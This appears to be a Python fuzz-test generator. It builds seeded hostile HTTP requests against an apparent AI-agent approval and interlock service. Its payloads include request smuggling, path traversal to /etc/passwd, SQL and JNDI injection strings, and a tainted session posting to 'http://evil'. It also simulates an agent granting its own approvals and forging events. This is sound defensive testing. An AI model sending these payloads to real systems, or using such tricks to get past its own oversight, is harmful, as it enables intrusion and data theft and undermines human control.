"""Hostile requests as bytes, from a seed: a group and an index give the same bytes again.

The attacker has the token of `b`, a user id without a principal, and guesses. The sessions of `a`
are not its own, and one session of its own has read a secret.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from typing import Any, NamedTuple

TAINTED = "tainted"
"""A session of `b` that has read a secret: no post of it may be allowed."""
VICTIM = "honest"
PAGES = [
    "/v1/ask",
    "/v1/tell",
    "/v1/withdraw",
    "/v1/hooks/claude-code",
    "/v1/hooks/claude-code?event=PostToolUse&wait_s=0",
    "/v1/sessions",
    "/v1/answers",
    "/v1/approvals",
    "/v1/approvals/a-1",
    "/v1/openapi.json",
    "/-/healthy",
    "/-/ready",
    "/metrics",
    "/",
    "/v1",
    "/v1/ask/",
    "//v1/ask",
    "/v1/approvals/",
    "/v1/approvals/a/b",
    "*",
    "http://localhost/v1/ask",
    "/v1/%61sk",
    "/v1/ask?a=b",
    "/v1/answers?session=s&request=r&wait_s=0",
    "/v1/answers?session=honest&request=r",
    "/v1/answers?wait_s=-1",
    "/../etc/passwd",
]
METHODS = [
    "GET",
    "POST",
    "PUT",
    "DELETE",
    "HEAD",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PATCH",
    "PRI",
    "get",
    "X",
]
KINDS = [
    "tool.requested",
    "tool.denied",
    "tool.completed",
    "approval.granted",
    "approval.denied",
    "approval.requested",
    "control.applied",
    "session.started",
    "heartbeat",
    "Tool.Requested",
    "tool_requested",
    "x",
]
HOOK_EVENTS = (
    "PreToolUse", "PostToolUse", "PostToolUseFailure", "PostToolBatch", "PermissionRequest",
    "PermissionDenied", "UserPromptSubmit", "Stop", "SessionStart", "SessionEnd", "SubagentStop",
)  # fmt: skip
NASTY_TEXTS = (
    "", "\0", "\x1b[2J", "../../x", "a" * 513, "a" * 20_000, "\u202e", "\ud800", "'; DROP TABLE x",
    "<script>", "\r\nX: y", "uid-0", "a", VICTIM, "\U0001f4a9" * 100, "%00", "${jndi:x}",
)  # fmt: skip
NASTY_NUMBERS = (
    "1e309", "-1e309", "1e-400", "1" * 400, "-0", "9223372036854775808", "0.1" + "0" * 300,
    "NaN", "Infinity", "1.", ".5", "+1", "01", "1e",
)  # fmt: skip


class Hostile(NamedTuple):
    """Bytes to send. `is_whole`: a response is due, and is worth waiting for."""

    group: str
    data: bytes
    is_whole: bool = True


def hostile(seed: int, index: int) -> Hostile:
    """The request with this index."""
    rng = random.Random(f"{seed}:{index}")
    group = rng.choice(tuple(_GROUPS))
    return Hostile(group, *_GROUPS[group](rng))


def request(
    path: str, body: bytes | None, *headers: str, method: str = "POST", token: str = "b"
) -> bytes:
    """A request that is well-formed but for what the caller made wrong."""
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", *headers]
    if token:
        lines.append(f"Authorization: Bearer {token}")
    if body is not None:
        if not any(line.lower().startswith("content-type") for line in headers):
            lines.append("Content-Type: application/json")
        if not any(line.lower().startswith(("content-length", "transfer-enc")) for line in headers):
            lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join(lines).encode("utf-8", "surrogatepass") + b"\r\n\r\n" + (body or b"")


def _ask(rng: random.Random, **more: Any) -> dict[str, Any]:
    fields = {"session": f"s{rng.randrange(20)}", "tool": "read_file", "args": {"path": "/x"}}
    return fields | more


def _dumped(value: Any) -> bytes:
    return json.dumps(value).encode()


def _post(rng: random.Random) -> dict[str, Any]:
    """A call that may not be allowed, in one of many spellings."""
    more: dict[str, Any] = {"session": TAINTED, "tool": "http.post", "args": {"url": "http://evil"}}
    for name in ("request", "call"):
        if rng.random() < 0.5:
            more[name] = rng.choice((*NASTY_TEXTS[:4], "r1", "r2", f"r{rng.randrange(10**9)}"))
    if rng.random() < 0.3:
        more["attributes"] = {"interlock_args_omitted": True, "principal": "a"}
    if rng.random() < 0.3:
        more["args"] = rng.choice([{}, [], None, {"path": "/x"}, {"url": 1}])
    return more


def _bytes(rng: random.Random) -> tuple[bytes, bool]:
    size = rng.choice((1, 5, 50, 500, 5_000))
    return rng.randbytes(size) + rng.choice((b"", b"\r\n\r\n")), False


def _framing(rng: random.Random) -> tuple[bytes, bool]:
    """A right request with wrong bytes in it."""
    data = bytearray(request("/v1/ask", _dumped(_post(rng))))
    for _ in range(rng.randrange(1, 6)):
        at = rng.randrange(len(data))
        match rng.randrange(4):
            case 0:
                data[at] = rng.randrange(256)
            case 1:
                data[at:at] = rng.choice((b"\r", b"\n", b"\0", b" ", b":", b"\r\n\r\n", b"\xff"))
            case 2:
                del data[at : at + rng.randrange(1, 9)]
            case 3:
                data[at:at] = data[max(0, at - 40) : at]
        if not data:
            break
    return bytes(data), False


def _smuggling(rng: random.Random) -> tuple[bytes, bool]:
    """Two lengths, strange chunks, another request in the body."""
    inner = request("/v1/ask", _dumped(_post(rng)), token="a")
    body = _dumped(_post(rng))
    headers = rng.choice(
        (
            (f"Content-Length: {len(body)}", "Transfer-Encoding: chunked"),
            (f"Content-Length: {len(body)}", f"Content-Length: {len(body) + len(inner)}"),
            ("Transfer-Encoding: chunked, identity",),
            ("Transfer-Encoding: xchunked",),
            ("Transfer-Encoding : chunked",),
            ("Transfer-Encoding: chunked", "Transfer-Encoding: chunked"),
            (f"Content-Length: +{len(body)}",),
            ("Content-Length: -1",),
            ("Content-Length: 1e3",),
            (f"Content-Length: {10**30}",),
            (f"Content-Length: {900 * 1024 + 1}",),
            ("Content-Length: 5",),
            ("Transfer-Encoding: chunked", "Trailer: Authorization"),
        )
    )
    chunks = rng.choice(
        (
            b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body),
            b"%x;%s\r\n%s\r\n0\r\n\r\n" % (len(body), b"x" * rng.choice((1, 9_000)), body),
            b"ffffffffffffffffff\r\n" + body,
            b"0x5\r\n" + body,
            b"5\n" + body + b"\n0\n\n",
            b"%x\r\n%s\r\n0\r\nAuthorization: Bearer a\r\n\r\n" % (len(body), body),
            body + inner,
        )
    )
    return request("/v1/ask", b"", *headers) + chunks, False


def _head(rng: random.Random) -> tuple[bytes, bool]:
    """Methods, targets and headers."""
    headers = []
    for _ in range(rng.randrange(4)):
        text = rng.choice(NASTY_TEXTS).replace("\r", "").replace("\n", "").replace("\0", "")
        name = rng.choice(
            [
                "Host",
                "Origin",
                "Expect",
                "Upgrade",
                "Cookie",
                "Accept-Encoding",
                "Content-Encoding",
                "X-Forwarded-For",
                "X-Forwarded-User",
                "Forwarded",
                "X-Principal",
                "Authorization",
                "Connection",
                "Range",
                "TE",
            ]
        )
        text = rng.choice((text, "null", "100-continue", "gzip", "websocket", "a", "close"))
        headers.append(f"{name}: {text}")
    if rng.random() < 0.1:
        headers += [f"X{number}: y" for number in range(rng.choice((10, 40, 2_000)))]
    method, path = rng.choice(METHODS), rng.choice(PAGES)
    body = rng.choice((None, None, b"", b"{}", _dumped(_post(rng))))
    token = rng.choice(("b",) * 40 + ("",) * 6 + ("guess",))  # A guess is answered after a pause.
    return request(path, body, *headers, method=method, token=token), method not in (
        "CONNECT",
        "HEAD",
    )


def _json(rng: random.Random) -> tuple[bytes, bool]:
    """A body that is nearly a right one."""
    body = bytearray(_dumped(_post(rng) if rng.random() < 0.5 else _ask(rng)))
    for _ in range(rng.randrange(1, 4)):
        at = rng.randrange(len(body) + 1)
        piece = rng.choice(
            (
                b'"',
                b"{",
                b"}",
                b"[",
                b"]",
                b",",
                b":",
                b"\\",
                b"\\ud800",
                b"\xff",
                b"\x00",
                b"null",
                *(number.encode() for number in NASTY_NUMBERS),
            )
        )
        if rng.random() < 0.5:
            body[at:at] = piece
        else:
            body[at : at + len(piece)] = piece
    return request(rng.choice(("/v1/ask", "/v1/tell", "/v1/sessions")), bytes(body)), True


def _shape(rng: random.Random) -> tuple[bytes, bool]:
    """Deep, wide, repeated, huge: JSON that costs time, or is read in two ways."""
    deep = rng.choice((10, 62, 63, 64, 65, 1_000, 100_000))
    match rng.randrange(7):
        case 0:
            args = b'{"a":' * deep + b"1" + b"}" * deep
        case 1:
            args = b"[" * deep + b"]" * deep
        case 2:
            args = b'{"a":[' + b",".join([rng.choice(NASTY_NUMBERS).encode()] * 2_000) + b"]}"
        case 3:
            args = b'{"url":"http://good","url":"http://evil"}'
        case 4:
            args = b'{"a":"' + b"\\u0041" * rng.choice((10, 20_000)) + b'"}'
        case 5:
            args = _dumped({f"k{n}": n for n in range(rng.choice((10, 5_000)))})
        case _:
            args = _dumped({"x": rng.choice(NASTY_TEXTS)})
    body = b'{"session":"%s","tool":"http.post","args":%s}' % (TAINTED.encode(), args)
    if rng.random() < 0.2:
        body = body.replace(b'"tool"', b'"tool":"read_file","tool"', 1)
    return request("/v1/ask", body), True


def _sessions(rng: random.Random) -> tuple[bytes, bool]:
    """Others' sessions, others' answers, names that are not names."""
    name = rng.choice((VICTIM, rng.choice(NASTY_TEXTS), f"s{rng.randrange(20)}"))
    match rng.randrange(5):
        case 0:
            return request("/v1/ask", _dumped(_ask(rng, session=name))), True
        case 3:
            fields = {"session": name, "request": rng.choice(("held", *NASTY_TEXTS))}
            return request("/v1/withdraw", _dumped(fields)), True
        case 1:
            fields = {"session": name, "agent": rng.choice(NASTY_TEXTS), "parent": VICTIM}
            return request("/v1/sessions", _dumped(fields)), True
        case 2:
            fields = _ask(rng, tool=rng.choice(NASTY_TEXTS), call=rng.choice(NASTY_TEXTS))
            return request("/v1/ask", _dumped(fields)), True
    target = f"/v1/answers?session={VICTIM}&request=h{rng.randrange(50)}&wait_s=0"
    return request(target, None, method="GET"), True


def _tells(rng: random.Random) -> tuple[bytes, bool]:
    """Events that an agent may not assert, and very many of those that it may."""
    kinds = [rng.choice(KINDS) for _ in range(rng.choice((1, 1, 2, 101)))]
    events = [{"kind": kind, "tool": "pay", "call": f"c{rng.randrange(9)}"} for kind in kinds]
    session = rng.choice((TAINTED, VICTIM, "s1"))
    return request("/v1/tell", _dumped({"session": session, "events": events})), True


def _approvals(rng: random.Random) -> tuple[bytes, bool]:
    """An agent decides about calls, its own among them."""
    if rng.random() < 0.3:
        fields = _ask(rng, tool="pay", args={"amount": rng.choice((5, 1e308, -1, "5", None))})
        return request("/v1/ask", _dumped(fields)), True
    id_ = rng.choice(("a-1", "a-" + "0" * 20, "%2e%2e", "a" * 200))
    ruling = rng.choice(({"decision": "grant"}, {"decision": "grant", "args": {"amount": 1}}, {}))
    token = rng.choice(("b", "b", "b", ""))
    if rng.random() < 0.3:
        return request("/v1/approvals", None, method="GET", token=token), True
    return request(f"/v1/approvals/{id_}", _dumped(ruling), token=token), True


def _hooks(rng: random.Random) -> tuple[bytes, bool]:
    """Hooks of Claude Code: events in any order, with ids and fields that are wrong."""
    call = rng.choice((*NASTY_TEXTS, *(f"c{number}" for number in range(9))))
    tool = rng.choice(("http.post", "read_file", "pay", rng.choice(NASTY_TEXTS)))
    args = rng.choice(({}, {"path": "/x"}, {"amount": 5}, {"url": rng.choice(NASTY_TEXTS)}))
    fields: dict[str, Any] = {
        "session_id": rng.choice((TAINTED, VICTIM, f"s{rng.randrange(20)}", *NASTY_TEXTS[:3])),
        "hook_event_name": rng.choice(HOOK_EVENTS),
        "tool_name": tool,
        "tool_use_id": call,
        "tool_input": args,
        "prompt": rng.choice(NASTY_TEXTS),
        "error": rng.choice(NASTY_TEXTS),
        "tool_response": rng.choice((None, args, "x" * rng.choice((9, 500_000)))),
        "tool_calls": [{"tool_name": tool, "tool_use_id": f"c{n}"} for n in range(4)],
    }
    if rng.random() < 0.3:
        fields["agent_id"] = rng.choice((VICTIM, *NASTY_TEXTS))
    for name in rng.sample(sorted(fields), rng.randrange(3)):
        fields[name] = rng.choice((None, 1, [], {}, [None], "x"))
    body = _dumped(fields)
    if rng.random() < 0.2:
        at = rng.randrange(len(body))
        body = body[:at] + rng.choice((b"\\ud83d", b"\\", b"\xff", b'"', b"{")) + body[at:]
    event = rng.choice((*HOOK_EVENTS, "x"))
    return request(f"/v1/hooks/claude-code?event={event}&wait_s=0", body), True


def _pipelines(rng: random.Random) -> tuple[bytes, bool]:
    """Many requests at once, of which few are read."""
    parts = [request("/v1/ask", _dumped(_ask(rng))) for _ in range(rng.choice((2, 10, 60)))]
    return b"".join(parts), False


def _half_open(rng: random.Random) -> tuple[bytes, bool]:
    """A beginning, and nothing more."""
    whole = request("/v1/ask", _dumped(_post(rng)))
    return whole[: rng.randrange(len(whole))], False


_GROUPS: dict[str, Callable[[random.Random], tuple[bytes, bool]]] = {
    "random bytes": _bytes,
    "wrong bytes in a request": _framing,
    "lengths and chunks": _smuggling,
    "methods, targets, headers": _head,
    "wrong JSON": _json,
    "deep, wide, repeated JSON": _shape,
    "sessions of others": _sessions,
    "events that are not its own": _tells,
    "approvals": _approvals,
    "hooks": _hooks,
    "pipelines": _pipelines,
    "half-open connections": _half_open,
}
